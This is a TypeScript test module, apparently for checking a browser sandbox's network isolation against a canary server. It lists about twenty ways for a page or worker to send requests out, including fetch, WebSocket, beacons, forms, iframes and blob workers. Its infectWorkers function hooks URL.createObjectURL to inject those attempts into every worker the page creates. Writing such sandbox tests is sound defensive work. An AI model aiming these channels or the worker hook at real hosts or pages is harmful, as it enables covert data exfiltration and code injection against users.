import type { Canary } from './canary.ts';

// Ways out of a page, as scripts that run in any engine. `at(name)` is an address of the canary. Whether something left is
// for the canary to say and never for these: many of them report success for what was blocked.

const EVERYWHERE = {
  fetch: "fetch(at('fetch'))",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', at('XMLHttpRequest')); x.send()",
  WebSocket: "new WebSocket(at('WebSocket').replace('http', 'ws'))",
  EventSource: "new EventSource(at('EventSource'))",
  import: "return import(at('import'))",
  font: "return new FontFace('x', 'url(' + at('font') + ')').load()",
} as const;

const IN_PAGE = {
  ...EVERYWHERE,
  sendBeacon: "navigator.sendBeacon(at('sendBeacon'), 'x')",
  image: "new Image().src = at('image')",
  background: "sheet('body { background: url(' + at('background') + ') }')",
  stylesheet: "put('link', { rel: 'stylesheet', href: at('stylesheet') })",
  script: "put('script', { src: at('script') })",
  prefetch: "put('link', { rel: 'prefetch', href: at('prefetch') })",
  preload: "put('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: at('preload') })",
  frame: "put('iframe', { src: at('frame') })",
  video: "put('video', { src: at('video') })",
  object: "put('object', { data: at('object') })",
  ping: "put('a', { href: '#', ping: at('ping') }).click()",
  form: "put('form', { action: at('form'), target: '_blank', method: 'post' }).submit()",
} as const;

const IN_WORKER = {
  ...EVERYWHERE,
  importScripts: "importScripts(at('importScripts'))",
  worker: "new Worker(URL.createObjectURL(new Blob(['fetch(\\'' + at('worker') + '\\')'])))",
} as const;

export type PageAttempt = keyof typeof IN_PAGE;
export type WorkerAttempt = keyof typeof IN_WORKER;
export const PAGE_ATTEMPTS = Object.keys(IN_PAGE) as PageAttempt[];
export const WORKER_ATTEMPTS = Object.keys(IN_WORKER) as WorkerAttempt[];

const HELPERS = `
  const put = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
  const sheet = (text) => {
    const made = new CSSStyleSheet();
    made.replaceSync(text);
    document.adoptedStyleSheets = [made];
  };`;

/** One attempt after the other; none keeps the next from being made. */
const script = (attempts: Readonly<Record<string, string>>, address: string): string => `
  const at = (name) => '${address}' + name;
  ${HELPERS}
  ${Object.values(attempts)
    .map((attempt) => `(async () => { ${attempt} })().catch(() => {});`)
    .join('\n')}`;

/** Tries everything in the page; "page/fetch" is what arrives. */
export const attackFromPage = ({ url }: Canary): string => script(IN_PAGE, `${url}page/`);

/** From now on each worker of the page tries everything before it does its work; "worker/fetch" is what arrives. */
export const infectWorkers = ({ url }: Canary): string => `
  const attack = ${JSON.stringify(`(() => {${script(IN_WORKER, `${url}worker/`)}})();\n`)};
  const make = URL.createObjectURL;
  URL.createObjectURL = (blob) =>
    make.call(URL, blob.type.includes('javascript') ? new Blob([attack, blob], { type: blob.type }) : blob);`;

/** A worker that comes from an address of the site, beside the page, instead of from the page itself. */
export const workerFromUrl = ({
  url,
}: Canary): { readonly file: string; readonly text: string; readonly start: string } => ({
  file: 'elsewhere.js',
  text: script({ fetch: EVERYWHERE.fetch }, `${url}url-worker/`),
  start: "try { new Worker(new URL('elsewhere.js', location)) } catch {}",
});
